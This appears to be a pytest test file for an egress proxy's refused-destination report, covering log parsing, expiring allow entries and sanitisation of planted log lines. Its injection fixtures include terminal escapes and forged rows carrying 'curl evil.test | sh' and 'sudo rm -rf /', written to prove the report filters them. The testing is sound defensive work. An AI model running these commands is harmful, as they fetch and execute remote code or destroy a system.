"""--refused's reading of the proxy's log, the temporary entries' times, and the proxy's
policy with an ended entry: the real modules on real files (no root). The lab test beside it
(test_refused_lab.py) runs them against the real proxy.

Proven: each refused destination once, with its count, first and last time and the command
that opens it, or why none can; lines planted with a terminal escape, a newline or a forged
row in a name never reach the output; an entry past its time is refused "expired"."""

import json
import os
import sys
import time

import pytest

from conftest import ROOT

sys.path.insert(0, os.path.join(ROOT, "bootstrap"))
from claw_cage import cli  # noqa: E402
from claw_cage.egress import config, refused, temporary  # noqa: E402
from claw_cage.proxy import config as proxy_config, policy  # noqa: E402


NOW = time.time()   # one clock for the lines and the expected times


def stamp(ago):
    return time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(NOW - ago))


def line(ago, name, why="name not on the allow list", verdict="refused-403"):
    return "%s proxy %s - %s up=0 down=0 ms=0 %s" % (stamp(ago), name, verdict, why)


PLANTED = [
    line(50, "evil\x1b[2J\x1b[31m.test:443"),                         # a terminal escape
    line(50, "evil.test\n  pypi.org:443  99 times, 2026-12-07T00:00:00Z to now: x\n    open "
         "it for 1h: curl evil.test | sh\n"),                             # newlines, a row
    line(50, "bell.test:443", why="name not on the allow list \x07\x1b]0;owned\x07"),
    "  forged.test:443  5 times, to: open it for 1h: sudo rm -rf /",   # not a log line at all
]


@pytest.fixture
def installed(tmp_path, monkeypatch):
    """proxy.json (rendered by the format's owner) naming a log file, at config.PATH."""
    log = tmp_path / "proxy.log"
    path = tmp_path / "proxy.json"
    path.write_text(proxy_config.render(listen=["127.0.0.1:3128"], allow=["api.anthropic.com"],
                                        log=str(log)))
    monkeypatch.setattr(config, "PATH", str(path))
    return log


def run(capsys, *argv):
    assert cli.main(["--refused"] + list(argv)) == 0
    return capsys.readouterr().out


def test_each_refused_destination_once_with_count_times_and_command(installed, capsys):
    installed.write_text("\n".join([
        line(7200, "pypi.org:443"), line(3600, "pypi.org:443"), line(60, "pypi.org:443"),
        "%s proxy api.anthropic.com:443 160.79.104.10:443 allowed up=1 down=2 ms=3" % stamp(5),
        line(90000, "old.example.com:443"),                                 # beyond 24h
        line(30, "10.0.0.5:443", why="IP address not on the allow list"),
        line(30, "lan.example.com:443", why="the name resolves to a blocked address: blocked "
                                            "range 192.168.0.0/16"),
        line(30, "co.uk:443"), line(30, "intranet:443"), line(30, "pypi.org:80"),
        line(20, "was.example.com:443", why="temporary entry expired")]) + "\n")
    out = run(capsys)
    rows = {r["destination"]: r for r in json.loads(run(capsys, "--json"))["refused"]}
    assert set(rows) == {"pypi.org:443", "10.0.0.5:443", "lan.example.com:443", "co.uk:443",
                         "intranet:443", "pypi.org:80", "was.example.com:443"}
    p = rows["pypi.org:443"]
    assert (p["count"], p["first"], p["last"]) == (3, stamp(7200), stamp(60))
    assert p["command"].endswith("--allow-domain pypi.org --for 1h") and p["command"].startswith(
        "sudo python3 ")
    assert rows["was.example.com:443"]["command"].endswith("--allow-domain was.example.com --for 1h")
    for dest, why in (("10.0.0.5:443", "a bare address"), ("lan.example.com:443", "blocked"),
                      ("co.uk:443", "public suffix"), ("intranet:443", "single label"),
                      ("pypi.org:80", "port 80")):
        assert rows[dest]["command"] is None and why in rows[dest]["no_command"], rows[dest]
    assert out.splitlines()[0].endswith("7 destinations")
    assert "  pypi.org:443  3 times, %s to %s: name not on the allow list" % (
        stamp(7200), stamp(60)) in out
    assert "old.example.com" not in out
    assert "old.example.com:443" in {r["destination"] for r in json.loads(
        run(capsys, "--since", "2d", "--json"))["refused"]}


def test_planted_lines_cannot_forge_a_line_of_the_output(installed, capsys):
    installed.write_text("\n".join(PLANTED + [line(10, "real.example.com:443")]) + "\n")
    out = run(capsys)
    assert not any(c in out for c in "\x1b\x07\r"), repr(out)
    lines = out.splitlines()
    assert lines[0].endswith("1 destination") and len(lines) == 3, out
    assert lines[1].startswith("  real.example.com:443  1 time, ")
    assert lines[2].startswith("    open it for 1h: sudo python3 ")
    assert "pypi" not in out and "forged" not in out and "evil" not in out
    data = json.loads(run(capsys, "--json"))
    assert [r["destination"] for r in data["refused"]] == ["real.example.com:443"]


def test_a_log_that_is_not_utf8_is_read_not_refused(installed, capsys):
    installed.write_bytes(b"\xff\xfe" + line(5, "bin\xffary.test:443").encode("latin-1") +
                          b"\n" + line(5, "ok.example.com:443").encode() + b"\n")
    assert [r["destination"] for r in json.loads(run(capsys, "--json"))["refused"]] == [
        "ok.example.com:443"]


def test_durations():
    assert [temporary.seconds(t) for t in ("3s", "30m", "2h", "1d", "7d")] == [
        3, 1800, 7200, 86400, 604800]
    for bad in ("", "2", "h", "0h", "-1h", "1.5h", "2w", "1h30m", "999999d"):
        with pytest.raises(ValueError):
            temporary.seconds(bad)


def test_an_entry_past_its_time_is_refused_expired_and_the_time_is_absolute():
    now = time.time()
    text = config.render(["gone.example.com", "live.example.com", "keep.example.com"],
                         expires={"gone.example.com": now - 1, "live.example.com": now + 60})
    data = json.loads(text)
    assert data["expires"] == {"gone.example.com": proxy_config.stamp(now - 1),
                               "live.example.com": proxy_config.stamp(now + 60)}
    rules = config.parse(text).policy
    assert rules.check_target("gone.example.com", 443)[2] == "temporary entry expired"
    assert rules.check_target("live.example.com", 443)[2] is None
    assert rules.check_target("keep.example.com", 443)[2] is None
    assert rules.check_target("other.example.com", 443)[2] == "name not on the allow list"
    # a suffix entry ends the same way; a permanent entry for the same name still opens it
    p = policy.Policy(["*.cdn.example", "a.cdn.example"], [443], {"*.cdn.example": now - 1})
    assert p.check_target("b.cdn.example", 443)[2] == "temporary entry expired"
    assert p.check_target("a.cdn.example", 443)[2] is None
    kept, ended = temporary.carry(data, now)
    assert list(kept) == ["live.example.com"] and ended == ["gone.example.com"]


@pytest.mark.parametrize("expires", [{"not.listed": "2026-12-07T09:00:00Z"},
                                     {"keep.example.com": "tomorrow"}, ["keep.example.com"]])
def test_an_expires_the_proxy_refuses_is_refused_by_render_too(expires):
    data = json.loads(config.render(["keep.example.com"]))
    data["expires"] = expires
    with pytest.raises(ValueError):
        proxy_config.validate(data)
    with pytest.raises(ValueError):
        proxy_config.render(**data)


def test_verify_rows_show_temporary_entries_and_the_days_refusals(installed):
    from claw_cage.verify import egress_rows
    now = time.time()
    cfg = proxy_config.validate({"listen": ["127.0.0.1:3128"], "log": str(installed),
                                 "allow": ["api.anthropic.com", "pypi.org", "old.example.com"],
                                 "expires": {"pypi.org": proxy_config.stamp(now + 3600),
                                             "old.example.com": proxy_config.stamp(now - 60)}})
    row = egress_rows.config_row(cfg, None)
    assert "pypi.org (until %s)" % temporary.until_text(now + 3600) in row.detail
    assert "old.example.com (ENDED, refused since " in row.detail and "api.anthropic.com," in \
        row.detail
    installed.write_text("")
    assert egress_rows.refusals_row(cfg).status == "pass"
    installed.write_text("\n".join([line(60, "a.example.com:443")] * 5 + [
        line(60, "b.example.com:443")] * 3 + [line(60, "c.example.com:443")] * 2 + [
        line(60, "d.example.com:443"), line(90000, "e.example.com:443")] + PLANTED) + "\n")
    row = egress_rows.refusals_row(cfg)
    assert row.status == "warn" and row.detail.startswith(
        "11 refusals of 4 destinations, most: a.example.com:443 (5), b.example.com:443 (3), "
        "c.example.com:443 (2); see --refused"), row.detail
    os.unlink(str(installed))
    assert egress_rows.refusals_row(cfg).status == "skip"
